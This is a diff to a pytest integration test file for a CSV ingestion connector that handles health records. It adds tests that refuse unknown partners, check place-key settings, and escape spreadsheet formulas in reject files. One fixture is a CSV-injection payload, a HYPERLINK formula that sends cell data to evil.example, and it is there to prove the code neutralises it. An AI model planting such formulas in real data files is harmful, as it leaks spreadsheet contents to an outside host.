@@ -16,7 +16,9 @@ import pytest
 
 from connectors.csv_drop import Checkpoint, CsvDrop, CsvFileError
 from connectors.mapping import EventMapping
-from hub.config import PROJECT_ROOT, Settings
+from connectors.pseudonymise import key_id
+from connectors.publisher import UnknownPartner
+from hub.config import PROJECT_ROOT, TEST_PLACE_KEY, Settings
 from tests.integration.connector_helpers import (
     BAD_NHS,
     GOOD_NHS,
@@ -184,14 +186,23 @@ def _big_file(path: Path, rows: int) -> None:
             out.write(f"P{n},{DAY},{GOOD_NHS},c-{n % 97},Att,E05000001,row {n}\n")
 
 
-def _cli(data: Path, mapping: Path, settings: Settings) -> subprocess.Popen[str]:
+def _cli(
+    data: Path,
+    mapping: Path,
+    settings: Settings,
+    partner: str = PARTNER,
+    env: dict[str, str] | None = None,
+) -> subprocess.Popen[str]:
+    """``placehub ingest csv`` as a partner runs it; ``env`` replaces ``PLACEHUB_*`` extras
+    (the key settings), the broker and topic prefix always being the test's."""
     env = {
-        **os.environ,
+        **({k: v for k, v in os.environ.items() if not k.startswith("PLACEHUB_")}),
+        **(env if env is not None else {"PLACEHUB_ALLOW_TEST_KEY": "1"}),
         "PLACEHUB_BOOTSTRAP_SERVERS": settings.bootstrap_servers,
         "PLACEHUB_TOPIC_PREFIX": settings.topic_prefix,
     }
     command = [sys.executable, "-m", "hub.cli", "ingest", "csv", str(data)]
-    command += ["--partner", PARTNER, "--mapping", str(mapping), "--json"]
+    command += ["--partner", partner, "--mapping", str(mapping), "--json"]
     return subprocess.Popen(
         command,
         env=env,
@@ -241,3 +252,76 @@ def test_100k_rows_killed_half_way_then_rerun_yields_every_row_once(
     assert len({e.event_id for e in events}) == rows
     assert {e.source_ref for e in events} == {f"P{n}" for n in range(rows)}
     assert len(events) - rows < 2 * 500, "more re-sent than one unacknowledged batch"
+
+
+def test_a_partner_the_hub_does_not_know_is_refused_before_anything_is_published(
+    hub_settings: Settings, tmp_path: Path
+) -> None:
+    data = tmp_path / "export.csv"
+    _write(data, [HEADER, GOOD.format(n=1)])
+    mapping = write_mapping(tmp_path)
+    with pytest.raises(UnknownPartner, match="'unknown-partner' is not a partner"):
+        CsvDrop(data, "unknown-partner", EventMapping.load(mapping), hub_settings)
+
+    out, err = _cli(data, mapping, hub_settings, partner="unknown-partner").communicate(timeout=120)
+
+    assert "published" not in out and "PLACEHUB_PARTNERS_FILE" in err
+    assert raw_topic_bytes(hub_settings, "unknown-partner") == b""
+    assert not (tmp_path / "export.rejects.checkpoint.json").exists()
+
+
+def test_reject_file_cells_cannot_run_as_spreadsheet_formulas(
+    hub_settings: Settings, tmp_path: Path
+) -> None:
+    hostile = '"=HYPERLINK(""http://evil.example/?""&A1,""open"")"'
+    rows = [
+        f"B1,{DAY},{BAD_NHS},c-1,Att,,{hostile}\n",
+        f"@SUM(A1),{DAY},{BAD_NHS},c-1,Att,,+1\n",
+        f"B3,{DAY},{BAD_NHS},c-1,Att,,-2\n",
+    ]
+    data = tmp_path / "export.csv"
+    _write(data, [HEADER, *rows])
+    drop = CsvDrop(data, PARTNER, EventMapping.load(write_mapping(tmp_path)), hub_settings)
+
+    assert drop.run().rejected == 3
+
+    rejects = _rejects(drop.reject_path)
+    assert [row[-1] for row in rejects] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "'+1",
+        "'-2",
+    ]
+    assert rejects[1][2] == "'@SUM(A1)"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rejects for cell in row)
+
+
+def test_the_place_key_outside_tests_must_be_set_long_and_not_the_test_key(
+    hub_settings: Settings, tmp_path: Path
+) -> None:
+    data = tmp_path / "export.csv"
+    _write(data, [HEADER, GOOD.format(n=1)])
+    mapping = write_mapping(tmp_path)
+    refused = {
+        "no key": ({}, "PLACEHUB_PLACE_KEY_FILE: no place key is set"),
+        "short key": ({"PLACEHUB_PLACE_KEY": "k" * 31}, "PLACEHUB_PLACE_KEY: the place key has 31"),
+        "test key": (
+            {"PLACEHUB_PLACE_KEY": TEST_PLACE_KEY},
+            "PLACEHUB_PLACE_KEY: this is the public",
+        ),
+    }
+    for name, (env, problem) in refused.items():
+        cli = _cli(data, mapping, hub_settings, env=env)
+        out, err = cli.communicate(timeout=120)
+        assert cli.returncode == 2 and problem in err and out == "", name
+    assert raw_topic_bytes(hub_settings, PARTNER) == b""
+
+    place_key = "a-place-key-of-thirty-two-bytes!"
+    key_file = tmp_path / "place.key"
+    key_file.write_text(place_key + "\n")
+    cli = _cli(data, mapping, hub_settings, env={"PLACEHUB_PLACE_KEY_FILE": str(key_file)})
+    out, err = cli.communicate(timeout=120)
+
+    assert cli.returncode == 0, err
+    [event] = published_events(hub_settings, PARTNER)
+    [nhs] = event.subject.tokens
+    assert nhs.split(":")[1] == key_id(place_key.encode()) != key_id(TEST_PLACE_KEY.encode())
